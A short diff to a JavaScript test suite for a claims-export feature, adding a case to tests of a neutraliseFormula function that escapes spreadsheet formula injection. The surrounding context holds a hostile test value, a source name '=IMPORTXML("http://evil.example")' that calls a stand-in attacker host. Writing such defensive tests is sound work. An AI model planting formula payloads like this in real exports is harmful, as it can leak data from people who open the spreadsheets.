@@ -86,6 +86,7 @@ describe('claims export', () => {
     assert.equal(neutraliseFormula('\t=1+1'), "'\t=1+1");
     assert.equal(neutraliseFormula('\r=1+1'), "'\r=1+1");
     assert.equal(neutraliseFormula('plain = text'), 'plain = text');
+    assert.equal(neutraliseFormula("'as quoted'"), "''as quoted'", 'an apostrophe of its own gets one more, so an import takes exactly one away');
     assert.equal(neutraliseFormula(-5), -5);
     const source = (await editor.post('/api/sources').send({ name: '=IMPORTXML("http://evil.example")' }).expect(201)).body;
     const incident = (await editor.post('/api/incidents').send({ title: 'Formulas' }).expect(201)).body;
